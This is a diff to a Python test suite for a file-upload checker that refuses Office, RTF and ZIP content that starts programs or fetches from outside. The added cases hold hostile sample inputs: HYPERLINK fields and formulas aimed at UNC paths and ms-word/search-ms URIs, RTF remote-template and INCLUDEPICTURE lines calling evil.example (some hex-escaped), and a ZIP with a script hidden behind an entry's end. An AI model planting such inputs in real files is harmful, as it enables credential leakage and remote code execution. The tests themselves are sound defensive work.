@@ -130,6 +130,10 @@ def field(*runs: str) -> bytes:
         (field(' INCLUDEPICTURE "media/a.png" '), True),
         (field(" PAGE "), True),
         (field(" HYPERLINK ", '"https://a.example/DDE cmd"'), True),
+        (field(' HYPERLINK \\l "mục_1" '), True),
+        (field(' HYPERLINK "search-ms:query=a" '), False),
+        (field(' HYPERLINK "\\\\\\\\evil\\\\x.exe" '), False),
+        (field(" HYPERLINK ms-word:ofe|u|https://evil.example "), False),
         (docx({"word/a.xml": "<w:t>DDE là gì?</w:t>".encode()}), True),
     ],
 )
@@ -167,6 +171,10 @@ def cell(formula: str) -> dict[str, bytes]:
         (xlsx(cell("'Ông A''s'!A1&amp;&quot;'&quot;")), True),
         (xlsx(cell("&quot;a|'b'!c&quot;&amp;B1")), True),
         (xlsx(cell("MYCALL(1)")), True),
+        (xlsx(cell("HYPERLINK(&quot;https://a.example&quot;,&quot;a&quot;)")), True),
+        (xlsx(cell("HYPERLINK(&quot;#Sheet1!A1&quot;)")), True),
+        (xlsx(cell("HYPERLINK(&quot;search-ms:query=a&quot;,&quot;a&quot;)")), False),
+        (xlsx(cell("1+hyperlink( &quot;\\\\evil\\x.exe&quot;)")), False),
     ],
 )
 def test_a_cell_that_starts_a_program_or_fetches_is_refused(data: bytes, *, fine: bool) -> None:
@@ -205,6 +213,51 @@ def test_what_another_program_would_unpack_is_judged_too() -> None:
     assert verdict(letter[:middle] + b"\0" * 20 + moved(letter, 0, 20)[middle:], "a.zip") == "zip"
     for name, code in (("giay.js", "active_content"), ("giấy phép.txt", "zip"), ("../giay.txt", "unsafe_archive")):
         assert verdict(archive({two_names("giay.txt", name): b"x"}), "a.zip") == code, name
+
+
+PACKED = pytest.mark.parametrize("way", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+
+
+@PACKED
+@pytest.mark.parametrize("streamed", [False, True])
+def test_an_archive_is_taken_however_it_was_packed(way: int, *, streamed: bool) -> None:
+    room = Unseekable() if streamed else io.BytesIO()
+    with zipfile.ZipFile(room, "w", way) as archive:
+        for name, content in (("a.txt", "xin chào".encode() * 5000), ("rỗng.txt", b"")):
+            archive.writestr(name, content)
+        archive.mkdir("thư mục")
+    assert verdict(room.getvalue(), "a.zip") == "zip"
+
+
+class Unseekable(io.BytesIO):
+    """A pipe: the sizes of an entry stand behind it."""
+
+    def seekable(self) -> bool:
+        return False
+
+    def seek(self, *_place: int) -> int:
+        raise OSError("a pipe")
+
+
+@PACKED
+@pytest.mark.parametrize("honest_head", [False, True])
+@pytest.mark.parametrize("streamed", [False, True])
+def test_what_stands_within_an_entry_behind_its_end_is_refused(way: int, *, honest_head: bool, streamed: bool) -> None:
+    """Who goes by what is packed finds another head there; the list says that it belongs to the entry."""
+    script = archive({"thu.js": b"new ActiveXObject()"})
+    hidden = script[: script.find(LIST_HEAD)]
+    room = Unseekable() if streamed else io.BytesIO()
+    with zipfile.ZipFile(room, "w", way) as made:
+        made.writestr("giay.txt", "xin chào".encode() * 500)
+        size = made.infolist()[0].compress_size
+    plain, listed = room.getvalue(), room.getvalue().find(LIST_HEAD)
+    assert verdict(plain, "a.zip") == "zip"
+    body = plain.find(b"giay.txt") + len("giay.txt") + size
+    longer = bytearray(plain[:body] + hidden + moved(plain, 0, len(hidden))[body:])
+    if not honest_head and not streamed:
+        struct.pack_into("<I", longer, 18, size + len(hidden))
+    struct.pack_into("<I", longer, listed + len(hidden) + 20, size + len(hidden))
+    assert verdict(bytes(longer), "a.zip") == "broken_archive"
 
 
 def moved(data: bytes, by: int, list_by: int | None = None) -> bytes:
@@ -246,6 +299,12 @@ OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
     ("name", "data", "code"),
     [
         ("a.doc", OLD, "zip"), ("a.doc", OLD + "_VBA_PROJECT".encode("utf-16-le"), "active_content"),
+        ("a.rtf", b"{\\rtf1{\\*\\template C:\\\\a.dotm}}", "zip"),
+        ("a.rtf", b"{\\rtf1{\\*\\template https://evil.example/a.dotm}}", "active_content"),
+        ("a.rtf", b"{\\rtf1{\\*\\template \\\\\\\\evil\\\\a.dotm}}", "active_content"),
+        ("a.rtf", b"{\\rtf1{\\*\\template \\'5c\\'5cevil\\\\a.dotm}}", "active_content"),
+        ("a.rtf", b"{\\rtf1{\\*\\template \\'68ttps://evil.example/a}}", "active_content"),
+        ("a.rtf", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/a.png"}}}', "active_content"),
         ("a.rtf", b"{\\rtf1 xin ch\\'e0o}", "zip"), ("a.rtf", b"{\\rtf1{\\object\\objdata 0105}}", "active_content"),
         ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "unsupported_archive"),
         ("a.rar", b"Rar!\x1a\x07\x01" + bytes(50), "unsupported_archive"),
